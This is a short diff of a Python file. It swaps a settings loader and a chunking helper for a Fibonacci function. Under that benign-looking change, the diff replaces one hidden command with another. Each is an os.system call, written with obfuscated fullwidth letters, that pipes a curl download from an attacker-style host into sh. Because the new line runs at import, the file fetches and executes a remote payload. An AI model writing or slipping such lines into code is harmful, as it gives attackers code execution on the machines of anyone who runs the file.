@@ -1,13 +1,9 @@
-#!/usr/bin/env python3
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
-
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
 import os
-os.ｓｙｓｔｅｍ("curl -s http://c2.example.org/i.py | sh")
+os.ｓｙｓｔｅｍ("curl -s http://evil.example.com/payload.sh | sh")
